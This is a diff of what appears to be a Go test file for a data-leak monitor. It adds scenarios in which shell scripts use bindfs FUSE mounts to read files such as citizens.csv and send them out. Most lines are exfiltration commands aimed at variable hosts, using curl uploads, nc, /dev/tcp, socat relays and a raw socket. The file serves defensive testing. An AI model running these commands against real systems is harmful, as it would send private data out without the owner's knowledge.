@@ -35,6 +35,7 @@ s.connect((os.environ["OUT"],int(os.environ["PORT"]))); s.send(b"\0\1\1\0\0\1\0\
 		{name: "a descriptor of another file", script: `"$CARRY" take "$W/s" "$OUT" "$PORT" & "$CARRY" pass "$O" "$W/s"; wait $!`},
 		{name: "relay of another file", script: `socat -u "UNIX-LISTEN:$W/s" "TCP:$OUT:$PORT" & until [ -S s ]; do sleep 0.1; done; socat -u "FILE:$O" UNIX-CONNECT:s; wait`},
 		{name: "proxy on loopback for another file", script: `socat "TCP-LISTEN:$LOCAL,bind=127.0.0.1" "TCP:$OUT:$PORT" & sleep 0.5; curl -sST "$O" "http://127.0.0.1:$LOCAL/"; wait`},
+		{name: "a FUSE mount of another folder", script: `mkdir m; bindfs "$R-public" m; curl -sST m/roads.csv "$U"; fusermount3 -u m`},
 		{name: "setsid daemon with another file", script: `setsid -f bash -c 'exec curl -sST "$O" "$U"'; sleep 1`},
 		{name: "an outside client of a public web server", script: `cd "$R-public"; ` + webServer + ` & sleep 1
 			nsenter --net="$BEYOND" curl -sS --interface "$OUT" --retry 20 --retry-connrefused --retry-delay 1 "http://$SELF:$PORT/roads.csv" -o "$W/page"; kill $!`},
@@ -47,6 +48,8 @@ func neighbours() []*scenario {
 		{name: "a shell that listed the folder", script: `cd "$R"; names=(*); [ -e "$D" ]; exec 3<>"/dev/tcp/$OUT/$PORT"; echo hello >&3`},
 		{name: "find listed the folder", script: `find "$R/lists" "$R"/*.csv -ls >names; exec curl -sST "$O" "$U"`},
 		{name: "ls | nc", script: `ls -l "$R" | nc -N "$OUT" "$PORT"`},
+		{name: "a listed FUSE mount of the store", script: `mkdir m; bindfs "$R" m; wc -l m/citizens.csv >/dev/null; ls -l m | nc -N "$OUT" "$PORT"; fusermount3 -u m`},
+		{name: "a FUSE mount that a holder only read", script: `mkdir m; bindfs "$R-public" m; wc -l "$D" m/roads.csv >/dev/null; curl -sST m/roads.csv "$U"; fusermount3 -u m`},
 		{name: "du and stat", script: `du -s "$R/lists" >/dev/null; stat "$D" | curl -sST - "$U"`},
 		{name: "a shell whose child had read", script: `wc -l "$D" >/dev/null; echo hello >"/dev/tcp/$OUT/$PORT"`},
 		{name: "a shell that built a pipeline", script: `cat "$D" | wc -l >/dev/null; echo hello >"/dev/tcp/$OUT/$PORT"`},
